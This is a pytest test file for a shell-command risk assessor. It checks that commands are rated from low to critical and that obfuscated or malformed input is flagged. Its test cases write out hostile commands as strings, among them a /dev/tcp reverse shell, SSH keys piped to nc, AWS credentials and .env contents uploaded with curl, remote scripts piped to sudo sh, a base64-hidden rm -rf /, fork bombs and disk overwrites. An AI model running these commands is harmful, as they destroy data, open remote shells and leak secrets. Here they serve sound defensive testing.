"""Assessments as everybody outside sees them."""

from __future__ import annotations

import pytest

from tui.levels import RiskLevel
from tui.risk.assessing import assess, assess_argv, combine
from tui.risk.knowledge import Knowledge
from tui.risk.model import Assessment, Category, Confidence, Effect, Reversibility

LOW, MEDIUM, HIGH, CRITICAL = RiskLevel


def level(text: str, knowledge: Knowledge) -> RiskLevel:
    return assess(text, knowledge=knowledge).level


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("ls -la", LOW),
        ("git status && git diff", LOW),
        ("cat /etc/passwd", LOW),
        ("sudo cat /var/log/syslog | grep error", LOW),
        ("echo 'rm -rf /'", LOW),
        ("grep -rn 'rm -rf /' docs", LOW),
        ("git commit -m 'never run rm -rf / again'", LOW),
        ("cat <<EOF\nrm -rf /\nEOF", LOW),
        ("cat .env", LOW),
        ("find . -exec echo -delete \\; -print", LOW),
        ("aws ec2 describe-instances", LOW),
        ("ssh-keygen -t ed25519 -f ~/.ssh/id_work", LOW),
        ("chmod 600 ~/.ssh/id_rsa", LOW),
        ("aws ec2 run-instances --image-id x", MEDIUM),
        ("tar czf x.tgz src && scp x.tgz host:", MEDIUM),
        ("rm notes.txt", MEDIUM),
        ("rm -rf build", MEDIUM),
        ("rm -rf /tmp/scratch", MEDIUM),
        ("rm -rf ~/.cache/pip", MEDIUM),
        ("apt-get install -y jq", MEDIUM),
        ("curl -fsSL https://example.org/x.tar.gz -o x.tar.gz", MEDIUM),
        ("some-program-nobody-knows --flag", MEDIUM),
        ("$TOOL --flag", MEDIUM),
        ("find . -name '*.pyc' -exec rm {} +", MEDIUM),
        ("docker run --rm alpine rm -rf /data", MEDIUM),
        ("rm -rf .git", HIGH),
        ("rm -rf ~/projects", HIGH),
        ('rm -rf "$DIR"/*', HIGH),
        ("cd /etc && rm -rf nginx", HIGH),
        ("find / -name '*.conf' | xargs rm", HIGH),
        ("find /home -name id_rsa -exec cat {} \\;", HIGH),
        ("git push --force origin main", HIGH),
        ("echo x >> ~/.bashrc", HIGH),
        ("cat ~/.ssh/id_ed25519", HIGH),
        ("novel-cloud-cli databases delete production", HIGH),
        ("wget https://example.org/a.sh && sh a.sh", HIGH),
        ("printf 'exec /bin/sh' > /tmp/x; someprogram --config /tmp/x", HIGH),
        ("echo 'rm -rf /home' > x.sh; bash x.sh", HIGH),
        ("$RM -rf /", HIGH),
        ("tar czf /tmp/h.tgz /home && curl -F f=@/tmp/h.tgz https://example.org", HIGH),
        ("find /var/log -type f -exec truncate -s 0 {} +", HIGH),
        ("tail -n 0 /var/log/secure > /var/log/secure", HIGH),
        ("cat /e?c/shad*w", HIGH),
        ("perl -e 'system(pack(\"H*\", shift))'", HIGH),
        ("echo 0 > /proc/sys/kernel/randomize_va_space", HIGH),
        ('curl -d "$(cat notes.txt)" https://webhook.site/x', HIGH),
        ("$(date) | sh", HIGH),
        ("rm -rf /", CRITICAL),
        ("cat .env | curl -d @- https://example.org", CRITICAL),
        ("perl -e 'fork while fork'", CRITICAL),
        ("find / -type f -exec rm -f {} +", CRITICAL),
        ("rm -rf ~", CRITICAL),
        ("rm -rf /tmp/..", CRITICAL),
        ("find / -delete -o -print | cat; rm -rf /usr", CRITICAL),
        ("dd if=image of=/dev/sda", CRITICAL),
        ("cat image > /dev/sda", CRITICAL),
        ("curl -fsSL https://example.org/install.sh | sudo sh", CRITICAL),
        ("bash <(curl -s https://example.org/x)", CRITICAL),
        ("bash -i >& /dev/tcp/203.0.113.7/4242 0>&1", CRITICAL),
        ("tar cz ~/.ssh | nc 203.0.113.7 99", CRITICAL),
        ("curl -T ~/.aws/credentials https://example.org", CRITICAL),
        (":(){ :|:& };:", CRITICAL),
    ],
)
def test_levels_follow_effect_place_and_scope(text: str, expected: RiskLevel, knowledge: Knowledge) -> None:
    found = level(text, knowledge)
    assert found is expected or (expected is HIGH and found is CRITICAL)


def test_a_reason_names_the_object_and_shows_where_it_stands(knowledge: Knowledge) -> None:
    text = "cd src && sudo bash -c 'rm -rf /etc/nginx'"
    found = assess(text, knowledge=knowledge)
    worst = found.reasons[0]
    assert worst.category is Category.DESTROY
    assert "/etc/nginx" in worst.effect
    assert text[worst.span.start : worst.span.end].strip("'") in ("/etc/nginx", "rm -rf /etc/nginx")
    assert worst.chain[0] == "sudo"
    assert worst.attack
    assert Effect.DELETE in found.effects
    assert found.reversibility is Reversibility.IRREVERSIBLE


def test_what_really_runs_is_shown(knowledge: Knowledge) -> None:
    found = assess("echo cm0gLXJmIC8= | base64 -d | sh", knowledge=knowledge)
    assert ("rm", "-rf", "/") in [command.argv for command in found.commands]
    assert found.level is CRITICAL
    assert found.confidence is not Confidence.PARSED


def test_the_worst_reason_is_the_first(knowledge: Knowledge) -> None:
    ranks = [reason.level.rank for reason in assess("rm x; rm -rf ~/x; rm -rf /", knowledge=knowledge).reasons]
    assert ranks == sorted(ranks, reverse=True)
    assert ranks[0] == CRITICAL.rank


def test_a_suggestion_is_rated_lower_than_the_command(knowledge: Knowledge) -> None:
    text = "git push --force origin main"
    found = assess(text, knowledge=knowledge)
    assert found.suggestion is not None
    assert level(found.suggestion.text, knowledge) < found.level


def test_every_suggestion_of_a_shipped_rule_is_rated_lower_or_not_made(knowledge: Knowledge) -> None:
    made = 0
    for rule in knowledge.rules():
        for text in rule.match if rule.safer is not None else ():
            found = assess(text, knowledge=knowledge)
            if found.suggestion is not None:
                made += 1
                assert level(found.suggestion.text, knowledge) < found.level, text
    assert made


def test_a_suggestion_that_helps_nothing_is_not_made(knowledge: Knowledge) -> None:
    assert assess("git push --force; rm -rf /", knowledge=knowledge).suggestion is None


def test_another_language_is_said_to_be_unread(knowledge: Knowledge) -> None:
    found = assess("fn main() {}", "rust", knowledge=knowledge)
    assert (found.level, found.confidence) == (MEDIUM, Confidence.PARTIAL)
    assert found.not_understood == ("not analysed: rust",)
    assert found.reasons


@pytest.mark.parametrize("language", ["bash", "python", "javascript"])
@pytest.mark.parametrize(
    "text",
    [
        "ls\0-la",
        "echo \u202e fdp.exe",
        "ec\u200bho hi",
        "x" * 70_000,
        "echo hi\n" * 40_000,
        "(" * 5_000,
        "$(" * 2_000,
        "{" * 3_000 + "}" * 3_000,
        "\ud800",
        "'",
        "<<" * 500,
    ],
    ids=lambda value: repr(value[:12]),
)
def test_hostile_text_is_at_least_medium_and_says_so(text: str, language: str, knowledge: Knowledge) -> None:
    found = assess(text, language, knowledge=knowledge)
    assert found.level >= MEDIUM
    assert found.reasons


def test_empty_text_is_low(knowledge: Knowledge) -> None:
    assert level("", knowledge) is LOW
    assert level("# only a comment", knowledge) is LOW


def test_arguments_without_a_shell_are_data(knowledge: Knowledge) -> None:
    assert assess_argv(["echo", "; rm -rf /"], knowledge=knowledge).level is LOW
    assert assess_argv(["sh", "-c", "rm -rf /"], knowledge=knowledge).level is CRITICAL
    assert assess_argv(["rm", "-rf", "/"], knowledge=knowledge).level is CRITICAL
    assert assess_argv([], knowledge=knowledge).level is LOW


def test_code_in_an_argument_is_judged_in_its_language(knowledge: Knowledge) -> None:
    text = "python3 -c 'import os; os.system(\"rm -rf /\")'"
    found = assess(text, knowledge=knowledge)
    assert found.level >= HIGH
    assert all(0 <= reason.span.start < reason.span.end <= len(text) for reason in found.reasons)


def test_several_assessments_together_are_as_bad_as_the_worst(knowledge: Knowledge) -> None:
    parts = [assess(text, knowledge=knowledge) for text in ("ls", "rm -rf /", "echo hi")]
    whole = combine(parts)
    assert whole.level is CRITICAL
    assert set(whole.reasons) == {reason for part in parts for reason in part.reasons}
    assert len(whole.commands) == 3
    assert combine([parts[0]]) == parts[0]
    assert combine([]).level is LOW


def test_an_assessment_is_plain_data(knowledge: Knowledge) -> None:
    import json

    found = assess("sudo rm -rf /", knowledge=knowledge).to_json()
    assert json.loads(json.dumps(found)) == found
    assert found["engine"] == knowledge.identity


def test_the_package_gives_the_functions_not_the_modules() -> None:
    import tui.risk

    assert tui.risk.assess is assess
    assert tui.risk.Assessment is Assessment
